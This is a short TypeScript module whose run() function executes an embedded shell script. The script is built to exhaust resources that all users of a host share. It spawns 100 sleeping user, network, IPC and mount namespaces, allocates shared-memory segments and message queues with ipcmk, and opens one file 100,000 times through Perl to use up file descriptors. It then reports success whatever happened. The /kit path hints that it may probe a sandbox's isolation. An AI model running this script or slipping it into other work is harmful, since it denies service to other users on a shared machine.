/** Exhausts what all users share: namespaces, files, queues, locks. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `i=0; while [ $i -lt 100 ]; do unshare --user --map-root-user --net --ipc --mount sleep 100 & i=$((i+1)); done; for i in 1 2 3 4 5 6 7 8; do ipcmk -M 16000000; ipcmk -Q; done; perl -e 'open(my $h, "<", "/kit/package.json") and push @h, $h for 1..100000; sleep 100'`;
